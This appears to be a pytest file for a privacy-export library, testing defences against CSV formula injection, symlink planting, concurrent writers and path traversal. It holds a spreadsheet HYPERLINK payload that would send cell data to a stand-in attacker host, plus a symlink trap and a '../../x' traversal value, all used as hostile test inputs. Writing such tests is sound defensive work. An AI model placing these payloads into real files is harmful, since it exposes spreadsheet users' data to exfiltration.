"""Exports under hostile input and concurrency: formula cells, planted symlinks, racing writers,
names that would escape the bundle."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import threading
import zipfile
from pathlib import Path

import pytest

import privacy_kit as pk
from privacy_kit.rights import neutralise_formula
from test_export import ANN, BOB, NOW, adapter_kind, make_adapter, make_engine

__all__ = ["adapter_kind"]


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_cells_are_neutralised_in_csv_only(
    adapter_kind: str, tmp_path: Path, lead: str
) -> None:
    adapter = make_adapter(adapter_kind)
    engine = make_engine(adapter)
    evil = f'{lead}HYPERLINK("http://attacker.example/?"&A1,"click")'
    adapter.update(
        engine.datamap.record_type("bookings"), pk.adapters.where.eq("id", 100),
        {"invitee_name": evil},
    )  # fmt: skip
    out = engine.export(ANN, tmp_path / "ann", format="folder", now=NOW).path
    raw = (out / "records/bookings.csv").read_bytes().decode("utf-8")
    table = list(csv.DictReader(io.StringIO(raw, newline="")))
    cell = next(r["invitee_name"] for r in table if r["id"] == "100")
    assert cell == "'" + evil
    rows = json.loads((out / "records/bookings.json").read_text())
    assert next(r["invitee_name"] for r in rows if r["id"] == 100) == evil  # JSON: exact


def test_plain_and_numeric_cells_are_unchanged() -> None:
    assert neutralise_formula("Ann Smith") == "Ann Smith"
    assert neutralise_formula("") == ""
    assert neutralise_formula("-5") == "'-5"  # text that starts like a formula is neutralised


def test_a_symlink_planted_at_the_old_partial_name_is_never_followed(tmp_path: Path) -> None:
    engine = make_engine(make_adapter("memory"))
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    dest = tmp_path / "ann.zip"
    (tmp_path / "ann.zip.partial").symlink_to(victim)
    result = engine.export(ANN, dest, now=NOW)
    assert victim.read_text() == "precious"
    assert zipfile.is_zipfile(dest)
    assert hashlib.sha256(dest.read_bytes()).hexdigest() == result.sha256
    # a symlink at the destination itself is an existing file: refused, nothing written
    link = tmp_path / "bob.zip"
    link.symlink_to(victim)
    with pytest.raises(pk.ConfigurationError, match="never overwrites"):
        engine.export(BOB, link, now=NOW)
    assert victim.read_text() == "precious"


def _race(engine: pk.Engine, dest: Path) -> dict[str, pk.ExportResult]:
    results: dict[str, pk.ExportResult] = {}
    errors: dict[str, Exception] = {}
    barrier = threading.Barrier(2)

    def run(name: str, subject: pk.Subject) -> None:
        barrier.wait()
        try:
            results[name] = engine.export(subject, dest, now=NOW)
        except pk.ConfigurationError as exc:
            errors[name] = exc

    threads = [
        threading.Thread(target=run, args=("ann", ANN)),
        threading.Thread(target=run, args=("bob", BOB)),
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(results) + len(errors) == 2
    assert len(results) >= 1
    return results


def test_racing_exports_to_one_destination_never_mix_subjects(tmp_path: Path) -> None:
    for attempt in range(10):
        engine = make_engine(make_adapter("memory"))
        dest = tmp_path / f"race{attempt}.zip"
        results = _race(engine, dest)
        # whoever was published: the file on disk is exactly what that export reported
        on_disk = hashlib.sha256(dest.read_bytes()).hexdigest()
        (winner,) = [r for r in results.values() if r.sha256 == on_disk]
        with zipfile.ZipFile(dest) as z:
            manifest = json.loads(z.read("manifest.json"))
            rows = json.loads(z.read("records/bookings.json"))
        assert manifest["subject"]["reference"] == winner.subject_reference
        ann = winner.subject_reference == engine.reference(ANN)
        email = "ann@example.com" if ann else "bob@example.com"
        assert {r["invitee_email"] for r in rows} == {email}
    # no temporary file is left behind
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_a_role_that_would_escape_the_bundle_is_refused_at_load(tmp_path: Path) -> None:
    data = pk.load_datamap(pk.example_path("datamap.yaml")).model_dump(mode="json")
    data["record_types"][3]["subjects"][1]["role"] = "../../x"
    path = tmp_path / "datamap.json"
    path.write_text(json.dumps(data))
    with pytest.raises(pk.PolicyError, match=r"record_types\[3\]\.subjects\[1\]\.role"):
        pk.load_datamap(path)
